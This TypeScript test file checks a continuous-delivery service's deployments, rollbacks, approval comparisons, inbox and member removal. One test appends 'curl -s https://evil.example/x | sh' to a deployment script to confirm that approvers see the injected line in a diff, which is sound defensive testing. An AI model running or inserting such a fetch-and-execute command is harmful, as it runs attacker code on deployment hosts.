import { removeMember } from '@baton/identity/members'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { getDashboard } from '../dashboard/get-dashboard.ts'
import { changeRule } from '../environments/change-rule.ts'
import { getEnvironmentState } from '../environments/get-environment-state.ts'
import { GUARDED_RULE } from '../environments/rule.ts'
import { getInbox } from '../inbox/get-inbox.ts'
import { changeProcess } from '../projects/change-process.ts'
import { changeTrust } from '../projects/change-trust.ts'
import { LOCAL_SITE_PROCESS } from '../projects/deployment-process.ts'
import { getProject } from '../projects/get-project.ts'
import { setVariable } from '../projects/set-variable.ts'
import { evaluatePromotion } from '../promotions/evaluate-promotion.ts'
import { getPromotion } from '../promotions/get-promotion.ts'
import { INTENT_MEMBERS } from '../promotions/intent.ts'
import { listFormerReleases } from '../promotions/list-former-releases.ts'
import { listPromotions } from '../promotions/list-promotions.ts'
import { previewPromotion } from '../promotions/preview-promotion.ts'
import { requestPromotion } from '../promotions/request-promotion.ts'
import { rollBack } from '../promotions/roll-back.ts'
import { getRelease } from '../releases/get-release.ts'
import { as, deploy, setUpDelivery } from '../testing/delivery.ts'
import { setUpLive } from '../testing/live.ts'
import { someSha } from '../testing/publications.ts'
import { openTestCd, type TestCd } from '../testing/test-cd.ts'
import { getDeployment } from './get-deployment.ts'
import { retryDeployment } from './retry-deployment.ts'
import { startDeployment } from './start-deployment.ts'

let cd: TestCd
beforeAll(async () => {
  cd = await openTestCd()
})
afterAll(() => cd.close())

const live = () => setUpLive(cd)

describe('a deployment', () => {
  it('starts only once its approvals are under a signed checkpoint, and only once', async () => {
    const { delivery, toProduction, production } = await live()
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    await delivery.bring(releaseId, delivery.environments.development)
    await delivery.bring(releaseId, delivery.environments.staging)
    const promotionId = await toProduction(releaseId)
    expect(await startDeployment(delivery.system(), { promotionId })).toEqual({ start: 'notProved' })
    const page = await as(delivery.owner, getPromotion, { promotionId })
    expect(page.holds).toMatchObject([{ kind: 'proof' }])
    await cd.sign()
    const starts = await Promise.all([1, 2, 3].map(() => startDeployment(delivery.system(), { promotionId })))
    expect(new Set(starts.map((start) => JSON.stringify(start))).size).toBe(1)
    expect(starts[0]).toMatchObject({ start: 'running', steps: [1, 2] })
    expect(production).not.toBe('')
  })

  it('that succeeds is what is live, on every page', async () => {
    const { delivery, chen, releaseId, promotionId, production } = await live()
    const state = await as(chen, getEnvironmentState, { environmentId: production })
    expect(state.items).toMatchObject([{ version: '2.4.0', releaseId, promotionId, health: 'healthy' }])
    const page = await as(chen, getPromotion, { promotionId })
    expect(page.summary.headline).toBe('2.4.0 went to production.')
    expect(page.summary.lines[0]).toMatch(/^Live since .* UTC\. Nothing was there before\.$/)
    expect(page.comparison).toMatchObject({ now: null, after: { version: '2.4.0' }, commits: { count: 1 } })
    const dashboard = await as(chen, getDashboard, {})
    expect(dashboard.projects[0]?.cells.map((cell) => cell.live?.version)).toEqual(['2.4.0', '2.4.0', '2.4.0'])
    const release = await as(chen, getRelease, { releaseId })
    expect(release.stops.map((stop) => stop.standing)).toEqual(['live', 'live', 'live'])
    const actions = (await cd.entries(delivery.orgId)).filter((entry) => entry.targetId === page.deployment?.id)
    expect(actions.map((entry) => entry.action)).toEqual(['deployment.started', 'deployment.finished'])
  })

  it('that fails before it touched the target leaves what is live', async () => {
    const { delivery, chen, toProduction, production } = await live()
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    const promotionId = await toProduction(releaseId)
    await deploy(cd, delivery, promotionId, { failAt: 1 })
    const page = await as(chen, getPromotion, { promotionId })
    expect(page.status).toBe('failed')
    expect(page.summary.text).toBe(
      '2.4.1 did not reach production. Step 1, Switch the files: it ended with exit code 1. 2.4.0 is still live.',
    )
    const state = await as(chen, getEnvironmentState, { environmentId: production })
    expect(state.items).toMatchObject([{ version: '2.4.0', uncertainSince: null, health: 'healthy' }])
    const dashboard = await as(chen, getDashboard, {})
    expect(dashboard.counts.failed).toBe(1)
    expect(dashboard.projects[0]?.cells[2]?.failed).toMatchObject({ version: '2.4.1', promotionId })
  })

  it('that fails after it touched the target leaves it uncertain, until a rollback', async () => {
    const { delivery, chen, releaseId: former, toProduction, production } = await live()
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    const promotionId = await toProduction(releaseId)
    await deploy(cd, delivery, promotionId, { failAt: 2 })
    const page = await as(chen, getPromotion, { promotionId })
    expect(page.summary.lines[0]).toBe(
      'Production may be mixed: the deployment had touched the target before it failed. Step 2, Health check: it ended with exit code 1.',
    )
    const mixed = await as(chen, getEnvironmentState, { environmentId: production })
    expect(mixed.items[0]?.uncertainSince).not.toBeNull()
    const back = await as(chen, rollBack, { environmentId: production, releaseId: former, reason: 'Mixed' })
    await deploy(cd, delivery, back.promotionId)
    const state = await as(chen, getEnvironmentState, { environmentId: production })
    expect(state.items).toMatchObject([{ version: '2.4.0', uncertainSince: null }])
  })

  it('of another organisation is not found, nor is its log', async () => {
    const { chen, promotionId } = await live()
    const { deployment } = await as(chen, getPromotion, { promotionId })
    const stranger = await cd.newOrganization()
    const deploymentId = deployment?.id ?? ''
    const { listLogLines } = await import('./list-log-lines.ts')
    const refusal = { code: 'NOT_FOUND' }
    await expect(as(stranger.owner, getDeployment, { deploymentId })).rejects.toMatchObject(refusal)
    await expect(as(stranger.owner, listLogLines, { deploymentId })).rejects.toMatchObject(refusal)
    await expect(as(stranger.owner, retryDeployment, { deploymentId })).rejects.toMatchObject(refusal)
  })
})

describe('rolling back', () => {
  it('puts a former release back, unproved if need be, and stops automation there', async () => {
    const { delivery, chen, releaseId: former } = await live()
    const { development } = delivery.environments
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    await delivery.bring(releaseId, development)
    const asked = await as(chen, rollBack, { environmentId: development, releaseId: former, reason: 'Loses orders' })
    // Nothing is signed: a rollback alone may start.
    const started = await startDeployment(delivery.system(), { promotionId: asked.promotionId })
    expect(started.start).toBe('running')
    const { finish } = await import('../testing/delivery.ts')
    if (started.start === 'running') await finish(cd, delivery, started.deploymentId)
    const page = await as(chen, getPromotion, { promotionId: asked.promotionId })
    expect(page.deployment?.proved).toBe(false)
    expect(page.summary.headline).toBe('Chen put 2.4.0 back in development.')
    expect(page.reason).toBe('Loses orders')
    // Automation leaves it alone until a person promotes there.
    const next = await delivery.publish({ version: '2.4.2' })
    expect((await as(chen, listPromotions, { releaseId: next.releaseId })).items).toEqual([])
    const byHand = await as(chen, requestPromotion, { releaseId: next.releaseId, environmentId: development })
    await deploy(cd, delivery, byHand.promotionId)
    const again = await delivery.publish({ version: '2.4.3' })
    expect((await as(chen, listPromotions, { releaseId: again.releaseId })).items).toHaveLength(1)
  })

  it('needs its own permission, a reason, and a release that was live there', async () => {
    const { delivery, chen, releaseId, production } = await live()
    const fresh = await delivery.publish({ version: '2.4.1' })
    const to = { environmentId: production, releaseId: fresh.releaseId, reason: 'Why not' }
    await expect(as(chen, rollBack, to)).rejects.toMatchObject({
      code: 'PRECONDITION',
      message: '2.4.1 was never live in production, so nothing can be rolled back to it. Promote it instead.',
    })
    await expect(as(chen, rollBack, { ...to, releaseId })).rejects.toMatchObject({ code: 'CONFLICT' })
    await expect(as(chen, rollBack, { ...to, reason: '' })).rejects.toMatchObject({ code: 'VALIDATION' })
    const viewer = await delivery.member('Vera', 'viewer')
    await expect(as(viewer, rollBack, to)).rejects.toMatchObject({ code: 'FORBIDDEN' })
    const stranger = await cd.newOrganization()
    await expect(as(stranger.owner, rollBack, to)).rejects.toMatchObject({ code: 'NOT_FOUND' })
  })

  it('does not lead forward: what was stepped back from comes by a promotion alone', async () => {
    const { delivery, chen, releaseId: former, toProduction, production } = await live()
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    await deploy(cd, delivery, await toProduction(releaseId))
    const { projectId } = delivery
    const open = () => as(chen, listFormerReleases, { environmentId: production, projectId })
    expect((await open()).items).toMatchObject([{ releaseId: former, version: '2.4.0' }])
    const back = await as(chen, rollBack, { environmentId: production, releaseId: former, reason: 'Slow' })
    await deploy(cd, delivery, back.promotionId)
    expect((await open()).items).toEqual([])
    const forward = { environmentId: production, releaseId, reason: 'Not so slow' }
    await expect(as(chen, rollBack, forward)).rejects.toMatchObject({
      code: 'PRECONDITION',
      reason: 'not_before',
      message:
        '2.4.1 was not live in production before the release that is there now, so going to it is not a rollback. Promote it instead: then it gets its approvals.',
    })
    const page = await as(chen, getPromotion, { promotionId: back.promotionId })
    expect(page.gates).toContainEqual(expect.objectContaining({ kind: 'history', state: 'met' }))
  })

  it('says how long what is there was live', async () => {
    const { delivery, chen, releaseId: former, toProduction, production } = await live()
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    await deploy(cd, delivery, await toProduction(releaseId))
    const asked = await as(chen, rollBack, { environmentId: production, releaseId: former, reason: 'Slow' })
    const page = await as(chen, getPromotion, { promotionId: asked.promotionId })
    expect(page.summary.text).toMatch(/^Chen wants 2\.4\.0 back in production\. 2\.4\.1 is there now, live for \d+ s\./)
    expect(page.gates.filter((gate) => gate.kind === 'approvals' || gate.kind === 'phase')).toEqual([])
  })
})

describe('what is live', () => {
  it('is known for any past moment', async () => {
    const { delivery, chen, toProduction, production } = await live()
    const before = new Date(cd.clock())
    cd.passTime(60_000)
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    await deploy(cd, delivery, await toProduction(releaseId))
    const past = await as(chen, getEnvironmentState, { environmentId: production, at: before.toISOString() })
    expect(past.items).toMatchObject([{ version: '2.4.0' }])
    const now = await as(chen, getEnvironmentState, { environmentId: production })
    expect(now.items).toMatchObject([{ version: '2.4.1' }])
    const never = await as(chen, getEnvironmentState, { environmentId: production, at: '2020-01-01T00:00:00Z' })
    expect(never.items).toEqual([])
  })

  it('is compared with what would be: commits, tests, variables', async () => {
    const delivery = await setUpDelivery(cd)
    const { staging } = delivery.environments
    const variable = { projectId: delivery.projectId, environmentId: staging, name: 'PAYMENT_URL' }
    await as(delivery.owner, setVariable, { ...variable, value: 'http://old' })
    const [one, two, three] = [someSha(), someSha(), someSha()]
    const first = await delivery.publish({ version: '1.0.0', commits: [{ sha: one }] })
    await delivery.bring(first.releaseId, delivery.environments.development)
    await delivery.bring(first.releaseId, staging)
    await as(delivery.owner, setVariable, { ...variable, value: 'http://new' })
    const second = await delivery.publish({
      version: '1.0.1',
      commits: [
        { sha: three, parents: [two], subject: 'Fix rounding' },
        { sha: two, parents: [one], subject: 'Add tax' },
      ],
    })
    const asked = await as(delivery.owner, requestPromotion, { releaseId: second.releaseId, environmentId: staging })
    const page = await as(delivery.owner, getPromotion, { promotionId: asked.promotionId })
    expect(page.comparison.now).toMatchObject({ version: '1.0.0', gitCommit: one })
    expect(page.comparison.commits).toMatchObject({ sent: true, count: 2, unknownBeyond: [] })
    expect(page.comparison.commits.commits.map((commit) => commit.subject)).toEqual(['Fix rounding', 'Add tax'])
    expect(page.comparison.variables).toEqual([{ name: 'PAYMENT_URL', now: 'http://old', after: 'http://new' }])
    const rows = Object.fromEntries(page.comparison.members.map((row) => [row.member, row]))
    expect(Object.keys(rows)).toEqual(INTENT_MEMBERS)
    expect(rows.process).toMatchObject({ state: 'same', after: 'version 1, 2 steps' })
    expect(rows.trust).toMatchObject({ state: 'same', after: '1 rule' })
    expect(rows.rule).toMatchObject({ state: 'same', now: 'version 1', after: 'version 1' })
    expect(rows.variables?.parts).toMatchObject([
      { title: 'PAYMENT_URL in staging', change: 'changed', lines: [{ mark: 'removed' }, { mark: 'added' }] },
    ])
    expect(page.summary.lines[0]).toBe('1.0.0 is there now. 2 commits by 1 person. 3 of 3 tests passed.')
  })
})

describe('an approver', () => {
  it('is shown the line that an administrator put into the process before a developer fixed a typo', async () => {
    const { delivery, chen, toProduction, production } = await live()
    const { owner, projectId } = delivery
    const steps = LOCAL_SITE_PROCESS.map((step) =>
      step.kind === 'script' ? { ...step, script: `${step.script}\ncurl -s https://evil.example/x | sh` } : step,
    )
    await as(owner, changeProcess, { projectId, expectedVersion: 1, steps })
    await as(owner, setVariable, { projectId, name: 'PAYMENT_URL', value: 'http://new' })
    const { trust } = await as(owner, getProject, { projectId })
    const source = trust[0]?.source ?? ''
    const { environmentId, rule } = { environmentId: production, rule: { ...GUARDED_RULE, noAuthor: false } }
    await as(owner, changeRule, { environmentId, expectedVersion: 1, rule })
    const { releaseId } = await delivery.publish({
      version: '2.4.1',
      commits: [{ sha: someSha(), subject: 'Fix a typo' }],
    })
    await as(owner, changeTrust, { projectId, trust: [{ source }, { source: 'https://other.example/x' }] })
    const preview = await as(owner, previewPromotion, { releaseId, environmentId })
    const asked = { promotionId: await toProduction(releaseId) }
    const page = await as(chen, getPromotion, asked)
    for (const { comparison } of [preview, page]) {
      const rows = Object.fromEntries(comparison.members.map((row) => [row.member, row]))
      expect(rows.process).toMatchObject({ state: 'changed', now: 'version 1, 2 steps', after: 'version 2, 2 steps' })
      expect(rows.process?.details[0]).toMatch(/^Ada changed it to version 2 on /)
      expect(rows.process?.parts[0]?.lines).toContainEqual({
        mark: 'added',
        text: '  curl -s https://evil.example/x | sh',
      })
      expect(rows.trust).toMatchObject({ state: 'changed', now: '1 rule', after: '2 rules' })
      expect(rows.trust?.details[0]).toMatch(/^Ada changed it on /)
      expect(rows.variables?.details[0]).toMatch(/^Ada changed PAYMENT_URL on /)
      expect(rows.rule?.details[0]).toBe('Before: not by an author. After: an author may approve too.')
      expect(rows.rule?.details[1]).toMatch(/^Ada changed it to version 2 on /)
    }
    // Once it is over, it still says what was there before and what came.
    await deploy(cd, delivery, asked.promotionId)
    await as(owner, changeTrust, { projectId, trust: [{ source }] })
    const over = await as(chen, getPromotion, asked)
    expect(over.comparison.members.find(({ member }) => member === 'trust')).toMatchObject({ after: '2 rules' })
  })
})

describe('the inbox', () => {
  it('shows what waits for whom, by name, and leaves nobody out', async () => {
    const { delivery, chen, toProduction, production } = await live()
    const dara = await delivery.member('Dara')
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    await delivery.bring(releaseId, delivery.environments.development)
    await delivery.bring(releaseId, delivery.environments.staging)
    await as(delivery.owner, requestPromotion, { releaseId, environmentId: production })
    const mine = await as(dara, getInbox, {})
    expect(mine.waitingForYou).toMatchObject([
      { headline: 'Ada wants shop-web 2.4.1 in production.', version: '2.4.1', fromVersion: '2.4.0' },
    ])
    expect(mine.waitingForYou[0]?.couldApprove.map((person) => person.displayName)).toEqual(['Chen', 'Dara'])
    const asker = await as(delivery.owner, getInbox, {})
    expect(asker.waitingForYou).toEqual([])
    expect(asker.waitingForOthers).toHaveLength(1)
    expect(asker.doneCount).toBeGreaterThan(0)
    const dashboard = await as(chen, getDashboard, {})
    expect(dashboard.counts).toMatchObject({ waitForYou: 1, waitForOthers: 0 })
    expect(dashboard.projects[0]?.cells[2]?.pending).toMatchObject({
      version: '2.4.1',
      status: 'waitingForApproval',
      forYou: true,
    })
    expect(toProduction).toBeTypeOf('function')
  })
})

describe('removing a member', () => {
  it('voids their approvals of what has not started, and says which', async () => {
    const { delivery, chen, toProduction } = await live()
    const { releaseId } = await delivery.publish({ version: '2.4.1' })
    const promotionId = await toProduction(releaseId)
    const { number } = await as(delivery.owner, getPromotion, { promotionId })
    const removal = await as(delivery.owner, removeMember, { userId: chen.userId })
    expect(removal.voidedApprovals).toEqual([{ promotionId, label: `promotion ${number}` }])
    await evaluatePromotion(delivery.system(), { promotionId })
    const page = await as(delivery.owner, getPromotion, { promotionId })
    expect(page.status).toBe('waitingForApproval')
    expect(page.decisions).toMatchObject([{ voidReason: 'memberRemoved' }])
    await cd.sign()
    expect(await startDeployment(delivery.system(), { promotionId })).toEqual({ start: 'notReady' })
  })
})
